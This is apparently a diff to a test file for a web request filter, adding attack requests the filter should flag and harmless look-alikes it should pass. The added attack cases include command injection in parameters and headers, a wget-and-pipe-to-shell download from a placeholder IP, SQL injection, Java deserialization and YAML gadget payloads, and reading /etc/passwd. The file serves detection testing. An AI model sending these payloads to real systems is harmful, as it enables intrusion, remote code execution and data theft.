@@ -103,6 +103,23 @@ HITS = [
     (20704, _query("hTtPs://evil.test/a.txt", "content")),
     (20705, _query("http://198.51.100.23/r57.php", "q")),
     (20705, _query("https://evil.test/lang.txt?", "x")),
+    (20801, _query("192.0.2.1;id", "host")),
+    (20801, _query("example.test\nid\n", "domain")),
+    (20801, _body("application/x-www-form-urlencoded",
+                  b"ip=192.0.2.1%3Bbusybox+wget+http%3A%2F%2F198.51.100.4%2Fmips+-O-+%7C+sh&count=4")),
+    (20802, _query("x;/???/??t /???/p??s??", "dir")),
+    (20802, _body("application/json", b'{"url": "ext::sh -c touch% /tmp/pwned", "branch": "main"}')),
+    (20803, Request("GET", "/api/upload", [*HEADERS, ("X-File-Name", "report.pdf$(sleep 7)")])),
+    (20803, Request("GET", "/", [*HEADERS, ("X-Forwarded-For", "192.0.2.12`id`")])),
+    (20803, _path("/api/diag/ping/192.0.2.1;cat%20/etc/passwd")),
+    (20804, Request("GET", "/login", [*HEADERS, ("X-Forwarded-For", "192.0.2.44' OR 1=1-- -")])),
+    (20804, Request("GET", "/api/v1/me", [*HEADERS, ("X-Client-Version", "3.2%27%20OR%20%27x%27%3D%27x")])),
+    (20805, Request("GET", "/login", [*HEADERS, ("Cookie", "rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ")])),
+    (20805, _query("0", "class.module.classLoader.URLs[0]")),
+    (20805, _body("application/x-yaml", b"steps: !!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://198.51.100.12/y\n")),
+    (20806, _body("application/xml", b'<?xml version="1.0"?><request><item sku="X1\' AND SLEEP(5) AND '
+                                     b'\'1\'=\'1"/></request>')),
+    (20807, _query("c3RhdHVzPSdvcGVuJyBVTklPTiBTRUxFQ1QgbG9naW4scGFzc3dvcmQgRlJPTSBvcGVyYXRvcnMtLQ==", "f")),
 ]
 
 MISSES = [
@@ -135,6 +152,14 @@ MISSES = [
     _query("https://example.test/articles/42", "next"),
     _query("https://example.test/docs/file.txt", "share"),
     _query("/local/path/page", "page"),
+    _query("Meeting moved; see the notes. Cat lovers welcome", "message"),
+    _query("CREATE TABLE `reviews` (\n  `id` int NOT NULL\n)", "definition"),
+    _query("192.0.2.1", "host"),
+    Request("GET", "/", [*HEADERS, ("X-Request-Id", "5f2b9c1e-0c4d-4e55-9f3c-6a1d2b7e8f90"),
+                         ("If-None-Match", '"33a64df551425fcc55e4d42a148795d9f25f89d4"')]),
+    _query("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", "token"),
+    _body("application/xml", b'<?xml version="1.0"?><order id="O\'Brien-7" qty="2"><item>tea</item></order>'),
+    _query("java.util.List and the class loader chapter", "topic"),
 ]
 
 
